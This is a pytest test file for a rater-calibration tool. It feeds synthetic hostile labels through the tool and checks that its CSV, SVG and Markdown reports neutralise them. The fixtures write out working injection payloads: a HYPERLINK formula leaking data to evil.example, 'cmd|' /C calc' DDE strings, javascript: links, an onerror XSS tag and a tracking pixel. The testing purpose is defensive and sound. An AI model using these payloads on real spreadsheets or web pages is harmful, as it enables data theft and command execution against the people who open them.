"""Issue 11 items 6, 8, 9: hostile labels in figures, CSV formula injection, live Markdown.

One SYNTHETIC store whose rater ids, transcript ids, metadata and rubric text carry payloads:
mathtext (``r$\\frac{1}{$2``), spreadsheet formulas (``=HYPERLINK(...)``, ``+``, ``-``, ``@``,
tab) and Markdown links/images (``[x](javascript:...)``, ``![](http://host/pixel.png)``).
"""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner
from markdown_it import MarkdownIt

from calib.cli.main import cli

REPO = Path(__file__).resolve().parents[2]
RUBRIC = REPO / "rubrics" / "ml_interview_v1.yaml"

MATH = r"r$\frac{1}{$2"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MD_LINK = "[x](javascript:alert(1))"
MD_IMG = "![](http://host.example/pixel.png)"
RATERS = {
    "r01": MATH,
    "r02": FORMULA,
    "r03": MD_LINK,
    "r04": "+cmd|' /C calc'!A0",
    "r05": "@SUM(1+1)*cmd|' /C calc'!A0",
    "r06": "-2+3+cmd|' /C calc'!A0",
    "r07": "\t=1+1",
    "r08": "$x^2$ <b>bold</b> " + MD_IMG,
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from calib.io import ingest
    from calib.simulate import SimulationConfig, simulate_dataset, write_dataset

    ds = simulate_dataset(SimulationConfig(n_transcripts=40, seed=5))  # SYNTHETIC
    root = tmp_path_factory.mktemp("hostile11")
    tid = {t: (f"={t}" if i % 3 == 0 else f"[{t}](javascript:alert(1))" if i % 3 == 1 else t)
           for i, t in enumerate(ds.transcripts["transcript_id"])}  # fmt: skip
    t = ds.transcripts.assign(
        transcript_id=ds.transcripts["transcript_id"].map(tid),
        metadata=ds.transcripts["metadata"].map(
            lambda m: {**m, "cohort": MD_IMG + " " + FORMULA, "seniority": "@" + m["seniority"]}
        ),
    )
    r = ds.ratings.assign(
        transcript_id=ds.ratings["transcript_id"].map(tid),
        rater_id=ds.ratings["rater_id"].map(RATERS),
    )
    write_dataset(dataclasses.replace(ds, transcripts=t, ratings=ds.ratings), root / "data")
    r.to_csv(root / "data" / "hostile_ratings.csv", index=False)  # quoted: ids hold commas
    doc = yaml.safe_load(RUBRIC.read_text())
    doc["title"] = f"Title {MD_IMG} {MD_LINK} {MATH}"
    doc["dimensions"][0]["name"] = f"{MATH} {MD_LINK}"
    doc["dimensions"][1]["name"] = FORMULA
    doc["dimensions"][2]["levels"][0]["anchor"] = f"{MD_IMG} anchor {MD_LINK}"
    rubric = root / "rubric.yaml"
    rubric.write_text(yaml.safe_dump(doc, sort_keys=False))
    store = root / "store"
    s = ingest(
        [root / "data" / "transcripts.jsonl"],
        [root / "data" / "hostile_ratings.csv"],
        rubric=rubric,
        store=store,
    )
    assert s.sources[1].accepted == len(r), s  # every hostile row is stored
    return root, store


def _invoke(args):
    res = CliRunner().invoke(cli, [str(a) for a in args])
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    assert "Traceback" not in res.output
    return res


@pytest.fixture(scope="module")
def reports(hostile):
    root, store = hostile
    full = root / "full"
    res = _invoke(["report", "--store", store, "--out", full, "--n-boot", 20, "--seed", 1])
    assert res.exit_code == 0, res.output
    fb = root / "fb"
    res = _invoke(["report", "--store", store, "--out", fb, "--n-boot", 20, "--rater", MD_LINK])
    assert res.exit_code == 0, res.output
    cmp_ = root / "cmp"
    res = _invoke(["compare", store, store, "--out", cmp_, "--n-boot", 20])
    assert res.exit_code == 0, res.output
    return {"full": full, "feedback": fb, "compare": cmp_}


# ------------------------------------------------------------------------------ item 6
def test_mathtext_labels_do_not_crash_the_report_and_are_drawn_literally(reports):
    full = reports["full"]
    summary = json.loads((full / "summary.json").read_text())
    notes = [n for s in summary["sections"].values() for n in s["notes"]]
    assert not [n for n in notes if n.startswith("Figure not drawn")], notes
    svgs = "".join(p.read_text() for p in (full / "figures").glob("*.svg"))
    assert r"\frac{1}{" in svgs  # the rater id is drawn as its characters (svg.fonttype none)


def test_a_failing_figure_becomes_a_note_not_a_crash(hostile, tmp_path, monkeypatch):
    from calib.report import plots

    def boom(*args, **kwargs):
        raise RuntimeError("renderer exploded")

    # break one helper at the drawing layer (what a mathtext/renderer error looks like)
    monkeypatch.setattr(plots, "render", boom)
    _, store = hostile
    res = _invoke(["report", "--store", store, "--out", tmp_path / "r", "--n-boot", 0])
    assert res.exit_code == 0, res.output
    summary = json.loads((tmp_path / "r" / "summary.json").read_text())
    notes = [n for s in summary["sections"].values() for n in s["notes"]]
    assert any(n.startswith("Figure not drawn") and "renderer exploded" in n for n in notes), notes
    assert not list((tmp_path / "r" / "figures").glob("*.svg"))
    assert all(
        s["status"] != "not computed" or s["not_computed"] for s in summary["sections"].values()
    )
    md = (tmp_path / "r" / "report.md").read_text()
    assert "Figure not drawn" in md and "figures/" not in md


def test_plot_helper_with_dollar_labels_renders():
    from calib.report import plots

    d = pd.DataFrame({"rater_id": [MATH, "$a$b$", "50$"], "e": [0.1, 0.2, 0.3]})
    f = plots.forest_plot(
        d.assign(lo=d.e - 0.1, hi=d.e + 0.1), label="rater_id", estimate="e", low="lo",
        high="hi", xlabel="$x$", key="k", title="t", alt="a",
    )  # fmt: skip
    assert f.error is None
    assert "$a$b$" in f.svg and r"\frac{1}{" in f.svg


# ------------------------------------------------------------------------------ item 8
def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _csv_cells(path: Path):
    """Every text cell (numbers such as -0.25 are numbers to a spreadsheet, not formulas)."""
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            yield from (c for c in row if not _is_number(c))


def test_no_csv_cell_calib_writes_starts_a_formula(hostile, reports, tmp_path):
    root, store = hostile
    files = [p for r in reports.values() for p in (r / "tables").glob("*.csv")]
    # the command-line CSV outputs too
    for args, name in [
        (["agree", "--store", store, "--by", "rater", "--format", "csv"], "agree.csv"),
        (["agree", "--store", store, "--by", "seniority", "--format", "csv"], "agree_by.csv"),
        (["raters", "--store", store, "--format", "csv"], "raters.csv"),
    ]:
        res = _invoke(args)
        if res.exit_code == 0:
            (tmp_path / name).write_text(res.output)
            files.append(tmp_path / name)
    assert len(files) > 20
    bad, payload_seen = [], 0
    for f in files:
        for cell in _csv_cells(f):
            if cell.startswith(FORMULA_START):
                bad.append((f.name, cell[:60]))
            payload_seen += "HYPERLINK" in cell or "calc'!A0" in cell
    assert not bad, bad[:10]
    assert payload_seen > 0  # the payloads are there, as inert text


def test_parquet_tables_keep_raw_values(reports):
    raw = pd.concat(
        [pd.read_parquet(p) for p in (reports["full"] / "tables").glob("*.parquet")],
        ignore_index=True,
    )
    cells = raw.to_numpy(dtype=object).ravel()
    assert any(isinstance(c, str) and c.startswith("=HYPERLINK(") for c in cells)


def test_csv_helper_is_the_owasp_rule():
    from calib._escape import csv_cell, csv_safe_frame

    assert [csv_cell(v) for v in ["=1", "+1", "-1", "@x", "\tx", "\rx", "ok", -1.0, None]] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", -1.0, None,
    ]  # fmt: skip
    df = pd.DataFrame({"=a": ["=b", "c"], "n": [-1.5, 2.0]})
    out = csv_safe_frame(df)
    assert list(out.columns) == ["'=a", "n"] and out["n"].tolist() == [-1.5, 2.0]
    assert df.iloc[0, 0] == "=b"  # input untouched


# ------------------------------------------------------------------------------ item 9
_RENDER = MarkdownIt("gfm-like")  # CommonMark + tables + linkify (bare URLs), html allowed
# markdown-it drops javascript: links by itself; other renderers (Python-Markdown) do not, so
# the test renders every link it finds, whatever its scheme
_RENDER.validateLink = lambda url: True


def _links_and_images(md_text: str) -> tuple[list[str], list[str]]:
    page = _RENDER.render(md_text)
    hrefs = re.findall(r"<a\s[^>]*href=\"([^\"]*)\"", page)
    srcs = re.findall(r"<img\s[^>]*src=\"([^\"]*)\"", page)
    return hrefs, srcs


@pytest.mark.parametrize("kind", ["full", "feedback", "compare"])
def test_markdown_outputs_have_no_live_links_or_images(reports, kind):
    md_text = (reports[kind] / "report.md").read_text()
    assert "javascript" in md_text  # the payloads are present, as text
    assert "pixel" in md_text or kind == "feedback"
    hrefs, srcs = _links_and_images(md_text)
    assert hrefs == [], hrefs
    assert all(re.fullmatch(r"figures/[a-z0-9_]+\.svg", s) for s in srcs), srcs
    assert "<b>" not in md_text and "<img" not in md_text
    # renderer-independent: no unescaped ']('/'![' except our own figure images
    for m in re.finditer(r"(?<!\\)\]\(", md_text):
        assert md_text.startswith("](figures/", m.start()), md_text[
            max(0, m.start() - 40) : m.end() + 40
        ]


def test_md_escape_defuses_every_markdown_construct():
    from calib._escape import md_code, md_escape

    payloads = [
        MD_LINK, MD_IMG, "<http://a.example>", "http://bare.example/x", "www.bare.example",
        "mail@evil.example", "[ref]: http://ref.example", "<img src=x onerror=alert(1)>",
        "[a][ref]\n\n[ref]: javascript:alert(1)", "`code`](http://x)", "![x]\n(http://y)",
    ]  # fmt: skip
    for p in payloads:
        hrefs, srcs = _links_and_images(f"before {md_escape(p)} after")
        assert hrefs == [] and srcs == [], (p, hrefs, srcs)
        hrefs, srcs = _links_and_images(
            f"| a | {md_escape(p)} |\n|---|---|\n| {md_escape(p)} | x |"
        )
        assert hrefs == [] and srcs == [], p
        hrefs, srcs = _links_and_images(f"rule {md_code(p)}")
        assert hrefs == [] and srcs == [], p
    # the text survives: rendering shows the original characters
    shown = _RENDER.render(md_escape(MD_LINK))
    assert "[x](javascript:alert(1))" in shown


# ------------------------------------------------------------------------------ item 14
def _build(out: Path) -> Path:
    """ingest the sample's first 30 transcripts into OUT/store, grade with rules, report into OUT."""
    sample = REPO / "datasets" / "sample"
    lines = (sample / "transcripts.jsonl").read_text().splitlines()[:30]
    ids = {json.loads(line)["transcript_id"] for line in lines}
    out.mkdir()
    (out / "t.jsonl").write_text("\n".join(lines) + "\n")
    r = pd.read_csv(sample / "ratings.csv", dtype=str)
    r[r["transcript_id"].isin(ids)].to_csv(out / "r.csv", index=False)
    store = out / "store"
    for args in (
        ["ingest", "--transcripts", out / "t.jsonl", "--ratings", out / "r.csv",
         "--rubric", RUBRIC, "--store", store],
        ["grade", "--store", store, "--grader", "rules"],  # default run id: grader + UTC time
        ["report", "--store", store, "--out", out, "--n-boot", 0],
    ):  # fmt: skip
        assert _invoke(args).exit_code == 0
    return out


def test_run_json_is_identical_between_identical_runs(tmp_path):
    import time

    a = _build(tmp_path / "a")
    time.sleep(1.1)  # a different second: grader run ids and rating times differ
    b = _build(tmp_path / "b")
    run_a, run_b = (a / "run.json").read_text(), (b / "run.json").read_text()
    assert run_a == run_b
    run = json.loads(run_a)
    assert run["stores"] == ["store"]  # relative to the report folder, not /tmp/...
    fp = run["input_hashes"]["store"]
    assert fp["ratings"]["rows"] > 0 and len(fp["ratings"]["sha256"]) == 64
    assert str(tmp_path) not in run_a
    # the fingerprint still sees a real change of content
    from calib.report._write import store_fingerprint

    assert _invoke(["grade", "--store", b / "store", "--grader", "length"]).exit_code == 0
    assert store_fingerprint(b / "store")["ratings"] != fp["ratings"]


@pytest.mark.slow
def test_two_identical_demo_runs_write_identical_run_json(tmp_path, monkeypatch):
    monkeypatch.delenv("CALIB_LLM_BASE_URL", raising=False)
    texts = []
    for _ in range(2):
        res = _invoke(["demo", "--out", tmp_path / "demo", "--quiet", "--n-boot", 50])
        assert res.exit_code == 0, res.output
        texts.append((tmp_path / "demo" / "run.json").read_text())
    assert texts[0] == texts[1]
